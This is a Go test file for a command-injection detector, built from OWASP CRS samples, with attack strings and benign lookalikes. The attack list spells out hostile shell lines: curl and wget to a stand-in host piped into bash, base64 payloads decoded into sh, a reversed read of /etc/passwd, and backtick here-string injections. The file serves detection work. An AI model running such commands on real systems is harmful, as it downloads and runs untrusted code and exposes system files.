package signature_test

import "testing"

// A pipe into a shell runs what came before it as a script; a
// here-string feeds a word to a command. Public samples: the OWASP CRS
// regression tests of its rules 932230, 932235 and 932260 (Apache-2.0).
var pipeAttacks = []placedCase{
	{"printf dwssap/cte/ tac | rev | sh", nil},
	{"printf dW5hbWUgLWE=|base64 -d|sh", nil},
	{"curl http://x.example/s | bash", nil},
	{"echo aWQ= | base64 -d | /bin/sh", nil},
	{"wget -qO- http://x.example/i | sh -s", nil},
	{";`cat<<<sh -c whoami`", nil},
	{";`cat<<<'ifconfig'`", nil},
	{"bash<<<id", nil},
}

// pipeBenign are tables, menus and CUDA.
var pipeBenign = []placedCase{
	{"results | shows more", nil},
	{"kernel<<<grid, block>>>(x)", nil},
	{"a <<< b", nil},
	{"x<<<<y", nil},
	{"name | shell color | size", nil},
}

func TestPipesAndHereStrings(t *testing.T) {
	checkPlaced(t, "cmdi", pipeAttacks, 0.99, pipeBenign, 0.75)
}
